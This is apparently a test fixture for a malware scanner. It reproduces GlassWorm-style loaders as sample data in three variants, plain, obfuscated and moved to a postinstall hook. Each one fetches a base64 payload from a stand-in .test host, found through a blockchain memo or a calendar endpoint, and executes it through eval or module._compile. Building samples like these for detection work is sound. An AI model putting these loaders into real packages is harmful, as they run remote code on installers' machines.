import { type Campaign, codes, entry, scripted } from './kit.ts';

export const campaign: Campaign = {
  id: 'solana-memo',
  row: 'GlassWorm 10/2025→2026: addresses from a chain or a calendar',
  variants: [
    {
      concealment: 'plain',
      files: entry(`async function next() {
  const r = await fetch('https://rpc.solana.weir.test', { method: 'POST', body: JSON.stringify({ method: 'getSignaturesForAddress', params: ['28PKnu7RzizxBzFPoLp69HLXp9bJL3JFtT2s5QzHsEA2'] }) });
  const { result } = await r.json();
  const { link } = JSON.parse(result[0].memo.replace(/^\\[\\d+\\] /, ''));
  const body = await (await fetch(Buffer.from(link, 'base64').toString())).text();
  eval(Buffer.from(body, 'base64').toString());
}
next();
module.exports = {};
`),
    },
    {
      concealment: 'obfuscated',
      files:
        entry(`const _ = (s) => s.split('').map((c) => String.fromCharCode(c.charCodeAt(0) - 1)).join('');
fetch(_('${String.fromCharCode(...codes('https://rpc.solana.weir.test', 1))}')).then((r) => r.json()).then((j) => globalThis[_('${String.fromCharCode(...codes('eval', 1))}')](atob(j.memo)));
module.exports = {};
`),
    },
    {
      concealment: 'moved',
      files: scripted(
        { postinstall: 'node -r ./hook.js -e 0' },
        {
          'hook.js': `require('https').get('https://calendar.weir.test/e', (r) => { let h = ''; r.on('data', (d) => (h += d)); r.on('end', () => require('module').prototype._compile.call(module, Buffer.from(h.split('|')[1], 'base64').toString(), __filename)); });\n`,
        },
      ),
    },
  ],
};
